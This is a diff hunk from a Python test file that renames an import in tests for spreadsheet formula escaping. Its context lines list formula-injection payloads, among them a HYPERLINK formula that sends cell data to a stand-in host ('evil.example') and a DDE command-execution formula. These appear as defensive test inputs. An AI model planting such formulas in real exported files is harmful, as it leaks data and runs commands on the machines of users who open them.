@@ -14,7 +14,7 @@ from relex.domain.jobs import NewJob
 from relex.errors import RelexError
 from relex.files.writing import FORMULA_STARTS, GUARD, escape_formula, unescape_formula
 from relex.flows.export import export
-from tests.making import example, prediction, register_model
+from tests.factories import example, prediction, register_model
 
 HOSTILE = [
     "=HYPERLINK(\"http://evil.example/?\"&A1;\"here\")", "=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1",
